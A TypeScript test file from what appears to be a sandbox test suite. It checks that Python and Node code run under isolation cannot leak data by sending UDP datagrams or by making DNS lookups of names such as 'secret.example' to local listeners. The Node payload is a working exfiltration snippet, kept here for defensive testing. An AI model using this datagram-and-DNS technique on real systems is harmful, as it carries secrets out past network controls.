/** Item 7: names, which carry data out even where connections do not. */

import {hostname} from 'node:os';
import {expect} from 'vitest';
import {type Listeners, listenOnHost} from './host.ts';
import {eachIdentity} from './identity.ts';
import {node, python} from './payload.ts';
import {attack, runBare} from './sandboxed.ts';
import {sendTo} from './the-twenty.ts';

const pythonClient = (listeners: Listeners) => sendTo(listeners, ['localhost', hostname()]);

const nodeClient = ({addresses, udpPort}: Listeners) =>
	node(`
		import {createSocket} from 'node:dgram';
		import {lookup, Resolver} from 'node:dns/promises';
		for (const address of ${JSON.stringify(addresses)}) {
			await attempt(() => new Promise((done, fail) => {
				const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4').on('error', fail);
				socket.send('secret', ${udpPort}, address, error => {
					socket.close();
					error ? fail(error) : done('sent');
				});
			}));
		}
		await attempt(async () => 'resolved ' + JSON.stringify(await lookup('localhost', {all: true})));
		const resolver = new Resolver({timeout: 100, tries: 1});
		resolver.setServers(['127.0.0.1:${udpPort}']);
		await attempt(() => resolver.resolve4('secret.example'));
	`);

for (const [name, client] of Object.entries({Python: pythonClient, Node: nodeClient})) {
	eachIdentity(`${name} sends no datagram and learns no address`, async identity => {
		const control = await listenOnHost();
		expect(await runBare(identity, client(control))).toContain('resolved');
		expect((await control.visitors()).datagrams).toBeGreaterThan(0);
		const listeners = await listenOnHost();
		expect((await attack(identity, client(listeners))).stdout).not.toContain('resolved');
		expect(await listeners.visitors()).toEqual({connections: 0, datagrams: 0});
	});
}

eachIdentity('a skill reads addresses and names without looking them up', async identity => {
	const payload = python(`
		import ipaddress, urllib.parse
		print(ipaddress.ip_address('192.0.2.1').is_private, urllib.parse.urlsplit('https://example.org:8443/a').port)
	`);
	expect((await attack(identity, payload)).stdout).toContain('True 8443');
});
